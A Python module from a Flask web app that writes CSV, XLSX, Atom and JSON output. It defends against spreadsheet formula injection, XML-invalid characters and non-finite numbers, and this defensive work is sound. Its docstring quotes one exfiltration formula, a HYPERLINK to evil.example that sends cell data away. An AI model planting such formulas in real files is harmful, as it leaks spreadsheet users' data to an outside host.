"""The one writer of every file the product hands out: XLSX, CSV and the Atom feed.

Whatever a row holds, what comes out is safe to open and well formed:

- **No formula runs.** Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR is
  what a spreadsheet reads as a formula (``=HYPERLINK("http://evil.example/?"&A1)``
  sends the sheet's data away when clicked): such text gets a leading apostrophe, in
  CSV and XLSX alike, so it stays text even after the file is converted.
- **No character XML cannot carry.** C0 controls other than tab, LF and CR, lone
  surrogates, U+FFFE and U+FFFF are dropped from text (openpyxl refuses them, and an
  Atom document with them is not XML).
- **Numbers stay numbers**, and only finite ones: infinity and NaN are written as an
  empty cell, never "inf" or a blank that hides a corrupt row.
- **Dates and times** are written in the product's time zone, without zone (Excel has
  none).
- **Memory stays flat**: CSV is a generator of text chunks; XLSX is written by
  openpyxl's write-only mode (rows go to a temporary file as they come), the finished
  zip is spooled to disk and sent in chunks. Rows are iterated once.

The JSON of the open-data API follows the same rule for numbers (:class:`JSONProvider`).
"""

from __future__ import annotations

import csv
import io
import math
import re
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree as ET
from zoneinfo import ZoneInfo

from flask import Flask, Response, current_app, has_app_context
from flask.json.provider import DefaultJSONProvider

CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ATOM_MIMETYPE = "application/atom+xml"
ATOM = "http://www.w3.org/2005/Atom"

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_NOT_IN_TITLE = re.compile(r"[\[\]:*?/\\]")
CHUNK = 64 * 1024


def local_tz() -> ZoneInfo:
    zone = (
        current_app.config.get("BABEL_DEFAULT_TIMEZONE", "Asia/Ho_Chi_Minh")
        if has_app_context()
        else "Asia/Ho_Chi_Minh"
    )
    return ZoneInfo(zone)


def xml_text(value: str) -> str:
    """``value`` without the characters XML 1.0 cannot carry."""
    return _NOT_XML.sub("", value)


def safe_text(value: str) -> str:
    """Text for a cell: XML-safe, and never read as a formula."""
    value = xml_text(value)
    return "'" + value if value.startswith(FORMULA_START) else value


def cell(value: Any, tz: ZoneInfo | None = None) -> Any:
    """A value both formats accept: safe text, finite numbers, local naive dates."""
    if value is None or isinstance(value, bool | int):
        return value
    if isinstance(value, float | Decimal):
        return float(value) if math.isfinite(value) else None
    if isinstance(value, datetime):
        if value.tzinfo is not None:
            value = value.astimezone(tz or local_tz()).replace(tzinfo=None)
        if (value.hour, value.minute, value.second) == (0, 0, 0):
            return value.date()
        return value
    if isinstance(value, date):
        return value
    return safe_text(str(value))


# -- CSV -----------------------------------------------------------------------------


def _csv_cell(value: Any, tz: ZoneInfo) -> Any:
    # Fast paths for what most cells hold (same output as the general case below):
    # a large download writes millions of cells.
    kind = type(value)
    if kind is str:
        if value[:1] in FORMULA_START or _NOT_XML.search(value):
            return safe_text(value)
        return value
    if value is None:
        return ""
    if kind is int:
        return value  # the csv module writes it as str() would
    value = cell(value, tz)
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def _csv_row(row: Iterable[Any], tz: ZoneInfo) -> list[Any]:
    """One row's cells as :func:`_csv_cell` makes them, with the common cells (text
    that starts with a plain character, empty, whole numbers) handled in line: a large
    download writes millions of cells. Characters XML cannot carry inside such text
    are removed from the whole chunk (see :func:`csv_chunks`)."""
    out: list[Any] = []
    append = out.append
    for value in row:
        kind = type(value)
        if kind is str:
            first = value[:1]
            if " " <= first < "\ud800" and first not in FORMULA_START:
                append(value)
            else:
                append(_csv_cell(value, tz))
        elif value is None:
            append("")
        elif kind is int:
            append(value)
        elif kind is datetime and value.tzinfo is not None:
            # "YYYY-MM-DD HH:MM" in the local zone (the offset cut off), or the day
            # alone at midnight: what cell() then _csv_cell() write.
            local = value.astimezone(tz)
            text = local.isoformat(" ", "seconds")
            append(text[:10] if text[11:19] == "00:00:00" else text[:16])
        elif kind is date:
            append(value.isoformat())
        else:
            append(_csv_cell(value, tz))
    return out


def csv_chunks(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV text in chunks of about 64 KiB, with a BOM so spreadsheets read UTF-8.

    Characters XML cannot carry are dropped from each chunk at once: none of them is
    one the csv module quotes for, and a cell whose first character is one of them
    takes the careful path, so the output is what cell-by-cell cleaning would give."""
    tz = local_tz()
    buf = io.StringIO()
    writer = csv.writer(buf)
    writerow = writer.writerow
    buf.write("\ufeff")
    writerow([_csv_cell(h, tz) for h in header])
    for row in rows:
        writerow(_csv_row(row, tz))
        if buf.tell() > CHUNK:
            yield _NOT_XML.sub("", buf.getvalue())
            buf.seek(0)
            buf.truncate()
    yield _NOT_XML.sub("", buf.getvalue())


def attachment(filename: str) -> str:
    return f'attachment; filename="{filename}"'


def csv_response(
    filename: str,
    header: Sequence[str],
    rows: Iterable[Iterable[Any]],
    *,
    chunks: Iterable[bytes] | None = None,
) -> Response:
    """A streamed CSV download. ``rows`` must not need the request context: it is
    iterated after the view returns. ``chunks``: the file already written (by the
    database, :mod:`dankheo.spreadsheets_sql`) instead of header and rows."""
    # content_type, not mimetype: Werkzeug appends "; charset=utf-8" to a text/*
    # mimetype, which would name the charset twice.
    return Response(
        csv_chunks(header, rows) if chunks is None else chunks,
        content_type=CSV_MIMETYPE,
        headers={
            "Content-Disposition": attachment(filename),
            "X-Content-Type-Options": "nosniff",
        },
    )


# -- XLSX ----------------------------------------------------------------------------


@dataclass
class Styled:
    """A cell with a look: bold, a font size."""

    value: Any
    bold: bool = True
    size: float | None = None


@dataclass
class Sheet:
    """One worksheet: an optional bold header, the rows (iterated once), column
    widths, and whether every cell wraps its text at the top (a printed page)."""

    title: str
    rows: Iterable[Sequence[Any]]
    header: Sequence[Any] | None = None
    widths: Sequence[float] = field(default_factory=tuple)
    wrap: bool = False


def sheet_title(title: str) -> str:
    """A worksheet name Excel accepts: no ``[]:*?/\\``, 1 to 31 characters."""
    return _NOT_IN_TITLE.sub(" ", xml_text(title)).strip()[:31] or "Sheet"


def _write_sheet(wb, sheet: Sheet, tz: ZoneInfo) -> None:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    ws = wb.create_sheet(sheet_title(sheet.title))
    for i, width in enumerate(sheet.widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    wrap = Alignment(wrap_text=True, vertical="top") if sheet.wrap else None

    def make(value: Any):
        look = value if isinstance(value, Styled) else None
        value = cell(look.value if look else value, tz)
        if look is None and wrap is None:
            return value
        c = WriteOnlyCell(ws, value=value)
        if look is not None:
            c.font = Font(bold=look.bold, size=look.size)
        if wrap is not None:
            c.alignment = wrap
        return c

    if sheet.header is not None:
        ws.append(
            [make(v if isinstance(v, Styled) else Styled(v)) for v in sheet.header]
        )
    for row in sheet.rows:
        ws.append([make(v) for v in row])


def xlsx_file(sheets: Iterable[Sheet]):
    """The workbook written to a temporary file, rewound (the caller closes it)."""
    from openpyxl import Workbook

    tz = local_tz()
    wb = Workbook(write_only=True)
    for sheet in sheets:
        _write_sheet(wb, sheet, tz)
    fh = tempfile.TemporaryFile()  # noqa: SIM115 (returned open)
    try:
        wb.save(fh)
    except BaseException:
        fh.close()
        raise
    fh.seek(0)
    return fh


def xlsx_chunks(sheets: Iterable[Sheet]) -> Iterator[bytes]:
    """The workbook in chunks of 64 KiB."""
    with xlsx_file(sheets) as fh:
        while chunk := fh.read(CHUNK):
            yield chunk


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """The workbook at once (small documents such as council minutes)."""
    return b"".join(xlsx_chunks(sheets))


def xlsx_response(filename: str, sheets: Iterable[Sheet]) -> Response:
    """An XLSX download, built before the response starts (so a failure is a clean
    error page) and sent from disk in chunks."""
    fh = xlsx_file(sheets)

    def chunks() -> Iterator[bytes]:
        with fh:
            while chunk := fh.read(CHUNK):
                yield chunk

    return Response(
        chunks(),
        mimetype=XLSX_MIMETYPE,
        headers={
            "Content-Disposition": attachment(filename),
            "X-Content-Type-Options": "nosniff",
            "Cache-Control": "private, max-age=0",
        },
    )


# -- Atom ----------------------------------------------------------------------------


@dataclass
class FeedEntry:
    title: str
    id: str
    link: str
    updated: datetime
    published: datetime
    author: str
    summary: str
    category: str | None = None


def atom_feed(
    *,
    title: str,
    id: str,
    self_link: str,
    alternate: str,
    updated: datetime,
    entries: Iterable[FeedEntry],
) -> bytes:
    """An Atom document that is well-formed XML whatever the entries hold."""
    ET.register_namespace("", ATOM)
    root = ET.Element(f"{{{ATOM}}}feed")

    def sub(parent, tag: str, text: str | None = None, **attrs: str):
        el = ET.SubElement(
            parent, f"{{{ATOM}}}{tag}", {k: xml_text(v) for k, v in attrs.items()}
        )
        if text is not None:
            el.text = xml_text(text)
        return el

    sub(root, "title", title)
    sub(root, "id", id)
    sub(root, "link", rel="self", href=self_link)
    sub(root, "link", rel="alternate", href=alternate)
    sub(root, "updated", updated.isoformat())
    for e in entries:
        entry = sub(root, "entry")
        sub(entry, "title", e.title)
        sub(entry, "id", e.id)
        sub(entry, "link", rel="alternate", href=e.link)
        sub(entry, "updated", e.updated.isoformat())
        sub(entry, "published", e.published.isoformat())
        author = sub(entry, "author")
        sub(author, "name", e.author)
        if e.category:
            sub(entry, "category", term=e.category)
        sub(entry, "summary", e.summary)
    return ET.tostring(root, encoding="utf-8", xml_declaration=True)


def atom_response(body: bytes) -> Response:
    return Response(
        body, mimetype=ATOM_MIMETYPE, headers={"X-Content-Type-Options": "nosniff"}
    )


# -- JSON ----------------------------------------------------------------------------


def finite(value: Any) -> Any:
    """``value`` with every non-finite float (a corrupt row) replaced by None."""
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dict):
        return {k: finite(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [finite(v) for v in value]
    return value


class JSONProvider(DefaultJSONProvider):
    """Flask's JSON, never writing ``Infinity`` or ``NaN`` (they are not JSON)."""

    def dumps(self, obj: Any, **kwargs: Any) -> str:
        kwargs.setdefault("allow_nan", False)
        return super().dumps(finite(obj), **kwargs)


def init_app(app: Flask) -> None:
    app.json = JSONProvider(app)
